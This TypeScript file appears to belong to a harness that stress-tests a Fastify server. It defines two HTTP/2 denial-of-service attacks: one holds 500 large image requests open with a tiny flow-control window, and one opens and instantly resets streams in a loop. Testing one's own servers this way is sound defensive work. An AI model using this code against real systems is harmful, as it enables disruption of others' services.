/** Attacks by HTTP/2, in which one connection asks for as much as it likes at once. */
import { type ClientHttp2Session, connect } from 'node:http2'
import type { Attack, Attacks } from '../attacks.js'
import { BIG, type Crowd } from '../crowd.js'

const STREAMS = 500

const ofHttp2: Pick<Attack, 'targets' | 'options'> = {
  targets: ['Fastify'],
  options: { http2: true },
}

export const HTTP2: Attacks = {
  'unread streams': {
    ...ofHttp2,
    does: `one connection of HTTP/2 that asks for ${STREAMS} pictures of 3.5 MB and lets none of them be sent`,
    isWorst: true,
    seconds: 2,
    async run(crowd) {
      const session = sessionOf(crowd, 0)
      for (let at = 0; at < STREAMS; at++) ask(session, crowd, at)
      await crowd.pause(60_000)
    },
  },
  'reset streams': {
    ...ofHttp2,
    does: 'one connection of HTTP/2 that asks for pictures of 3.5 MB by the hundred and resets them at once',
    isOfNode: true,
    async run(crowd) {
      let session = sessionOf(crowd)
      for (let at = 0; !crowd.isOver; at++) {
        // Node ends a session of which too much is reset.
        if (session.destroyed || session.closed) session = sessionOf(crowd)
        const stream = ask(session, crowd, at)
        setImmediate(() => stream.close())
        if (at % 100 === 99) await crowd.pause(20)
      }
    },
  },
}

/** A connection, with a window of so many bytes for each answer. */
function sessionOf({ site, over }: Crowd, initialWindowSize = 65_535): ClientHttp2Session {
  const url = `http://${site.host}:${site.http2}`
  const session = connect(url, { settings: { initialWindowSize } })
  session.on('error', () => {})
  over.addEventListener('abort', () => session.destroy())
  return session
}

function ask(session: ClientHttp2Session, { site }: Crowd, at: number) {
  return session.request({ ':path': `${site.path}?text=${at}&${BIG}` }).on('error', () => {})
}
